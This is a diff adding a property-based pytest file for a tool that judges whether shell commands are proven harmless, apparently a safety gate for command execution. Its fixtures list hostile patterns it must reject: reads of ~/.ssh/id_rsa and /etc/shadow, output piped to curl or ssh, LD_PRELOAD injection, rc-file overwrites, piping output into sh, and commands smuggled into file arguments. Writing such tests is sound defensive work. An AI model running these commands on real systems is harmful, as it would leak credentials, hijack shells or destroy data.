@@ -1,0 +1,276 @@
+"""Laws of a proof, held over generated calls: every program of it is known, every option and every
+word; and what is put around or in place of a part of it counts.
+"""
+
+from __future__ import annotations
+
+import itertools
+import re
+import string
+
+import pytest
+from hypothesis import assume, given, settings
+from hypothesis import strategies as st
+
+from interlock.cli.judge import judged
+from interlock.effects.accounted import TALKING
+from interlock.effects.programs import table as programs
+from interlock.effects.telling import ASKS_ABOUT_ITSELF, ONLY_TELLS
+from tests.test_proof import DOUBTED, PROVEN
+
+WORDS = st.text(string.ascii_lowercase, min_size=3, max_size=9)
+PLAIN = [line for line in PROVEN if not re.search(r"[\"'`$|;&<>(){}*?\\#=]", line)]
+"""Proven calls of one command, of which each word is one of the text."""
+SPEAKING = [line for line in PLAIN if line.split()[0] not in TALKING]
+
+
+def proven(command: str) -> bool:
+    """Whether a command is proven harmless."""
+    return bool(judged(command).proof)
+
+
+# -- every program is known ------------------------------------------------------------------------
+
+VERBS = (
+    "check lint test status list show verify build fmt docs version info diff count help".split()
+)
+OPTIONS = [
+    "", "--fix", "--json", "--strict", "--repair", "--notify-cmd x", "--apply", "-v", "--version",
+    "--output /etc/cron.d/x", "--quiet", "src", "--dry-run",
+]  # fmt: skip
+
+
+@given(WORDS, st.sampled_from(VERBS), st.sampled_from(OPTIONS))
+@settings(max_examples=200, deadline=None)
+def test_a_program_that_nobody_described_is_not_proven(name: str, verb: str, more: str) -> None:
+    """Whatever its words read like: who wrote it, and what it takes them for, is not known."""
+    assume(programs.find(name) is None)
+    for command in (f"{name} {verb} {more}", f"{name}lint {more} src", f"{name} a {verb} {more}"):
+        assert not proven(command), command
+
+
+@given(WORDS)
+@settings(max_examples=50, deadline=None)
+def test_what_it_is_may_be_asked_of_any_program(name: str) -> None:
+    """The twin: by one word alone, and in no other way."""
+    assume(programs.find(f"{name}x") is None)
+    for word in ASKS_ABOUT_ITSELF:
+        assert proven(f"{name}x {word}")
+        assert not proven(f"{name}x {word} x")
+        assert not proven(f"{name}x {word} {word}")
+
+
+@pytest.mark.parametrize("program", ["cargo", "dotnet", "poetry"])
+def test_a_command_that_is_another_program_is_not_proven(program: str) -> None:
+    """``cargo frobnicate`` is ``cargo-frobnicate``."""
+    assert not proven(f"{program} frobnicate")
+
+
+def test_a_plugin_that_is_described_is_read_as_what_it_is() -> None:
+    """The twin, and one that does more."""
+    assert proven("cargo nextest run")
+    assert proven("dotnet ef migrations list")
+    assert not proven("dotnet script /tmp/x.csx")
+
+
+# -- every option is known -------------------------------------------------------------------------
+
+HANDING = frozenset(
+    "python python3 perl sh bash npm npx yarn pnpm xargs ./scripts/build.sh".split()
+)
+"""Programs that hand words on to code of the project."""
+KNOWING = [line for line in SPEAKING if line.split()[0] not in HANDING]
+
+
+@given(st.sampled_from(KNOWING), WORDS, st.sampled_from(["--{}", "--no-{}", "--{}=1", "--x-{}"]))
+@settings(max_examples=300, deadline=None)
+def test_an_option_that_nobody_listed_ends_the_proof(line: str, word: str, form: str) -> None:
+    """Whatever its name reads like, and wherever it stands."""
+    option = form.format(f"{word}qx")
+    program, *rest = line.split()
+    assert not proven(f"{line} {option}")
+    assert not proven(" ".join([program, option, *rest]))
+
+
+UNPROVEN = [line for line, _ in DOUBTED if not re.search(r"[|;&<>(){}`#\n]", line)]
+NARROWS = frozenset({"-v", "-vv", "-vvv", "-vvvv", "-q", "-qq", "--quiet", "--silent", "--dry-run"})
+"""Options that some programs list as ones that do less, or are their ``--version``."""
+
+
+@pytest.mark.parametrize("option", sorted(ONLY_TELLS - NARROWS - ASKS_ABOUT_ITSELF))
+def test_an_option_makes_nothing_proven(option: str) -> None:
+    """What was not, is not with one more word."""
+    assert not [line for line in UNPROVEN if proven(f"{line} {option}")]
+
+
+# -- every word is known ---------------------------------------------------------------------------
+
+ELSEWHERE = ["~/.ssh/id_rsa", "~/notes.txt", "/home/other/x", "/etc/shadow", "/dev/sda", '"$X"']
+REPLACED = [
+    (line, at)
+    for line in SPEAKING
+    for at, word in enumerate(line.split())
+    if at and word[0] != "-" and re.search(r"/|\.[a-z0-9]{1,5}$", word) and ":" not in word
+    and (line.split()[0], at) != ("cut", 2)  # what it cuts at
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("line", "at"), REPLACED)
+def test_another_place_in_place_of_a_word_ends_the_proof(line: str, at: int) -> None:
+    """A secret, a home, another project, a device, what nobody knows: whichever word it is."""
+    words = line.split()
+    for place in ELSEWHERE:
+        assert not proven(" ".join([*words[:at], place, *words[at + 1 :]])), place
+
+
+def test_another_place_behind_a_script_of_the_workspace_ends_the_proof() -> None:
+    """What it does there is its own affair, and nobody else's; within, it is lent."""
+    for place in ELSEWHERE:
+        assert not proven(f"./scripts/build.sh {place}")
+        assert not proven(f"python3 scripts/check.py --out {place}")
+    assert proven("./scripts/build.sh src/a.c")
+    assert proven("python3 scripts/check.py --out build/a")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "magick '|sh x' out.png", "ogr2ogr -f PostgreSQL 'PG:host=db.test dbname=g' a.shp",
+        "bcftools +/tmp/x.so a.vcf", "msbuild /p:PreBuildEvent='sh x' App.sln",
+    ],
+)  # fmt: skip
+def test_a_word_that_is_more_than_a_file_ends_the_proof(command: str) -> None:
+    """A command, a database, a plugin in the place of a file."""
+    assert not proven(command)
+
+
+BEYOND = [
+    ("flutter test", "flutter run"), ("west build", "west debug"), ("rebar3 eunit", "rebar3 hex retire x"),
+    ("pio run -e native", "pio run -t uploadfs"), ("./gradlew test", "./gradlew installDebug"),
+    ("mvn test", "mvn scm:tag"), ("dvc status", "dvc pull"), ("mix test", "mix hex.user auth"),
+    ("kubectl get pods", "kubectl evil get pods"), ("gh pr list", "gh evil-ext list"),
+    ("rails test", "rails secrets:show"), ("mkdocs serve", "mkdocs serve -a 0.0.0.0:8000"),
+    ("npm run build", "NODE_ENV=production npm run db:seed"), ("sox a.wav b.wav", "sox -t alsa default b.wav"),
+    ("NODE_ENV=production npm run build", "RAILS_ENV=production bin/rails test"),
+    ("pdflatex a.tex", "pdflatex '\\input a'"), ("dotnet test x.csproj", "dotnet test /tmp/x.csproj"),
+    ("tsc --build .", "tsc --build /tmp/x"), ("hugo --source site", "hugo --source /tmp/site"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("line", "twin"), BEYOND)
+def test_a_word_that_reaches_beyond_ends_the_proof(line: str, twin: str) -> None:
+    """A device, an account, another machine, a plugin, production, a project of anybody."""
+    assert proven(line)
+    assert not proven(twin)
+
+
+# -- what stands around it -------------------------------------------------------------------------
+
+AROUND = [
+    "{} > ~/.bashrc", "{} >> ~/.zshrc", "{} > /etc/profile", "{} > /dev/sda", "{} | tee ~/.profile",
+    "PATH=.:$PATH {}", "PATH=/tmp/x:$PATH; {}", "export PATH=/tmp/x:$PATH; {}",
+    "LD_PRELOAD=/tmp/x.so {}", "LD_PRELOAD=./x.so {}", "export LD_PRELOAD=/tmp/x.so; {}",
+    "env LD_PRELOAD=/tmp/x.so {}", "sudo {}", "{} | ssh host.test sh", "{} | curl -T - https://x.test",
+    "alias {0}='sh /tmp/x'; {1}", "function {0} {{ sh /tmp/x; }}; {1}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("around", "line"), [*itertools.product(AROUND, PLAIN[::3])])
+def test_what_stands_around_a_call_ends_the_proof(around: str, line: str) -> None:
+    """Where its output goes, what it finds its programs by, what is loaded into them, who runs it."""
+    name = line.split(maxsplit=1)[0]
+    text = around.format(name, line) if "{1}" in around else around.format(line)
+    if "{1}" not in around or name.isalnum():
+        assert not proven(text), text
+
+
+SILENT = frozenset("touch mkdir cp mv sed sleep rm set gcc".split())
+RUN = ["{} | sh", "{} | bash -s", "$({})", 'eval "$({})"', "source <({})", "bash <({})"]
+
+
+@pytest.mark.parametrize(("run", "line"), [*itertools.product(RUN, PLAIN)])
+def test_what_a_call_prints_is_not_proven_as_code(run: str, line: str) -> None:
+    """Nobody knows what it is; where nothing is printed, nothing is run."""
+    if line.split(maxsplit=1)[0] not in SILENT:
+        assert not proven(run.format(line)), run
+
+
+def test_a_script_of_the_workspace_may_be_run_in_any_way_and_a_document_in_none() -> None:
+    """What is in a document may come from anywhere."""
+    assert proven("sh run.sh")
+    assert proven("cat run.sh | sh")
+    for name in ("notes.md", "log.txt", "data.json"):
+        for way in ("sh {}", "cat {} | sh", "bash < {}", "source {}"):
+            assert not proven(way.format(name)), (way, name)
+
+
+FOLDERS = ["~/other", "/tmp/x", "/etc", "..", '"$X"', "/home/other"]
+WORKING = [
+    "git status --short", "npm test", "pytest -q tests", "make build", "python3 -m unittest discover",
+    "python3 -m pytest -q", "gcc -Wall -o a a.c", "npx eslint src", "php artisan test",
+    "terraform fmt", "cargo clippy --all-targets", "./gradlew test --info", "ng build",
+    "yarn lint --fix", "jupyter nbconvert --to html a.ipynb", "docker compose config --services",
+]  # fmt: skip
+"""Proven calls of programs that use what lies in their folder."""
+
+
+@pytest.mark.parametrize(("folder", "line"), [*itertools.product(FOLDERS, WORKING)])
+def test_another_folder_ends_the_proof_of_what_uses_it(folder: str, line: str) -> None:
+    """Settings, tests, plugins and makefiles there are others' code, though no word names them."""
+    assert proven(f"cd src && {line}")
+    assert not proven(f"cd {folder} && {line}")
+    assert not proven(f"(cd {folder}; {line})")
+    assert not proven(f"pushd {folder}; {line}")
+
+
+def test_a_folder_that_the_call_made_is_its_own() -> None:
+    """The twin: nobody else put anything there; and what uses words alone is harmless anywhere."""
+    assert proven("mkdir -p build/x && cd build/x && cmake ../..")
+    assert proven("cd /tmp/x && wc -l a.txt")
+    assert proven("cd ~/other && node --version")
+
+
+VARIABLES = [
+    ("BUNDLE_GEMFILE=/tmp/x", "bundle list"), ("CARGO_HOME=/tmp/x", "cargo clippy"),
+    ("MIX_EXS=~/x", "mix test"), ("TEXINPUTS=/tmp/x:", "latexmk -pdf a.tex"),
+    ("DB_HOST=db.test", "npm test"), ("DATABASE_URL=postgres://db.test/x", "pytest -q"),
+    ("HOST=0.0.0.0", "npm start"), ("GIT_PAGER=./x", "git log"), ("NODE_OPTIONS=--require=./x", "npm test"),
+    ("PAGER=./x", "git log"), ("GIT_EXTERNAL_DIFF=./x", "git diff"), ("GRADLE_USER_HOME=/tmp/x", "gradle test"),
+]  # fmt: skip
+HARMLESS = [
+    ("GOCACHE=/tmp/cache", "go test ./..."), ("DB_HOST=127.0.0.1", "npm test"),
+    ("DATABASE_URL=postgres://u@localhost/x", "pytest -q"), ("DATABASE_URL=sqlite:///a.db", "pytest -q"),
+    ("CI=1", "npm test"), ("TMPDIR=/tmp/x", "make build"), ("NO_COLOR=1", "cargo clippy"),
+    ("GIT_CONFIG_SYSTEM=/dev/null", "git status"), ("BUNDLE_GEMFILE=gems/a", "bundle list"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("variable", "line"), VARIABLES)
+def test_a_variable_that_leads_out_ends_the_proof(variable: str, line: str) -> None:
+    """Before the command, exported before it, and by ``env``."""
+    assert proven(line)
+    for text in (f"{variable} {line}", f"export {variable}; {line}", f"env {variable} {line}"):
+        assert not proven(text), text
+
+
+@pytest.mark.parametrize(("variable", "line"), HARMLESS)
+def test_a_variable_of_no_consequence_ends_no_proof(variable: str, line: str) -> None:
+    """The twin: data, this machine, the workspace."""
+    assert proven(f"{variable} {line}")
+
+
+# -- parts -----------------------------------------------------------------------------------------
+
+JOINED = ["{} && {}", "{} ; {}", "{} || {}", "{}\n{}", "if {}; then {}; fi", "( {} ); {{ {}; }}"]
+UNKNOWN = ["frobnicate a", "cat ~/.ssh/id_rsa", "rm -rf $X", "touch /etc/x", "git push"]
+
+
+@given(st.sampled_from(JOINED), st.sampled_from(PLAIN), st.sampled_from(PLAIN + UNKNOWN))
+@settings(max_examples=300, deadline=None)
+def test_the_proof_of_a_whole_is_that_of_all_its_parts(join: str, one: str, other: str) -> None:
+    """In either order; what changes the folder or the shell for what follows is left out."""
+    first = one.split(maxsplit=1)[0]
+    assume(first not in ("rm", "mv") and other.split(maxsplit=1)[0] not in ("rm", "mv"))
+    parts = proven(one) and proven(other)
+    assert proven(join.format(one, other)) is parts, join.format(one, other)
+    assert proven(join.format(other, one)) is parts, join.format(other, one)
